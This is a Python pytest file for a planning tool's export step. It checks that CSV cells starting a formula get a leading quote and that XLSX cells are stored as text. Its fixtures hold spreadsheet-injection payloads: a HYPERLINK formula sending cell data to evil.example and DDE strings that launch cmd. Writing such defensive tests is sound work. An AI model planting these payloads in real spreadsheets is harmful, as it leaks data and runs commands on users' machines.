"""Item 12: spreadsheet formula injection. A .csv cell beginning with `=`, `+`, `-`, `@`, tab
or CR was written raw (LibreOffice imported `=HYPERLINK(…)` as a live formula), and a column
header from `task_layout.columns[].header` went into the .xlsx as a formula. As OWASP
recommends, such a .csv cell gets a single quote in front; every .xlsx cell with text is
stored as a string, the clerk's text exactly."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
STARTS = {
    "content": HYPERLINK,
    "notes": "+1+cmd|' /C calc'!A0",
    "output": "@SUM(1+1)*cmd|' /C calc'!A0",
    "budget": "-2+3+cmd|' /C calc'!A0",
    "form": "\tTab đầu dòng",
}
HEADER = '=HYPERLINK("http://evil.example","Nội dung")'


def _quoted(value: str) -> str:
    """`value` as a YAML double-quoted scalar."""
    return '"' + value.replace('"', '\\"').replace("\t", "\\t") + '"'


def _plan(plans) -> str:
    fields = "".join(
        f"    {name}: {_quoted(value)}\n" for name, value in STARTS.items() if name != "content"
    )
    text = plans.edit(
        (
            "    content: Tuyên truyền, phổ biến các quy định về kiểm soát thủ tục hành chính\n",
            f"    content: {_quoted(HYPERLINK)}\n{fields}",
        )
    )
    return text.replace(
        "tasks:\n  - id: tuyen-truyen",
        "task_layout:\n  columns:\n    - field: number\n    - field: content\n"
        f"      header: {_quoted(HEADER)}\n    - field: lead\n    - field: deadline\n"
        "tasks:\n  - id: tuyen-truyen",
        1,
    )


@pytest.fixture
def built(plans, run_cli) -> Path:
    plans.write(_plan(plans))
    result = run_cli(
        ["build", "plan.yaml", "-o", "out", "--csv", "--xlsx", "--lang", "en"], cwd=plans.folder
    )
    assert result.exit_code == 0, result.output
    return plans.folder / "out" / plans.folder.name  # the organisation keeps its folder


def _csv(built: Path) -> list[dict[str, str]]:
    text = (built / "plan.csv").read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_cells_that_start_a_formula_get_a_quote(built: Path) -> None:
    row = next(r for r in _csv(built) if r["id"] == "tuyen-truyen")
    for name, value in STARTS.items():
        assert row[name] == "'" + value, name


def test_csv_leaves_other_cells_alone(built: Path) -> None:
    rows = _csv(built)
    assert all(not r["number"].startswith("'") for r in rows)
    plain = next(r for r in rows if r["id"] == "cong-dich-vu-cong")
    assert plain["content"] == "Nâng cấp Cổng dịch vụ công của Bộ"
    assert plain["due"] == "2024-06-30"


def test_xlsx_header_and_cells_are_text_not_formulas(built: Path) -> None:
    from openpyxl import load_workbook

    sheet = load_workbook(built / "plan.xlsx").worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    headers = [c.value for c in sheet[1]]
    assert HEADER in headers
    assert sheet.cell(row=1, column=headers.index(HEADER) + 1).data_type == "s"
    values = [c.value for c in cells]
    assert HYPERLINK in values  # the clerk's text exactly: no quote in the workbook
    assert "'" + HYPERLINK not in values


def test_the_document_keeps_the_text_exactly(built: Path) -> None:
    import docx

    document = docx.Document(str(built / "plan.docx"))
    text = "\n".join(c.text for t in document.tables for r in t.rows for c in r.cells)
    assert HYPERLINK in text
    assert HEADER in text


@pytest.mark.parametrize("text", [HYPERLINK, "- Quý II/2024", "'quoted", "'=x", "plain", ""])
def test_a_reader_gets_the_text_back(text: str) -> None:
    from planctl.render.csv_writer import guard_formula, unguard_formula

    assert unguard_formula(guard_formula(text)) == text
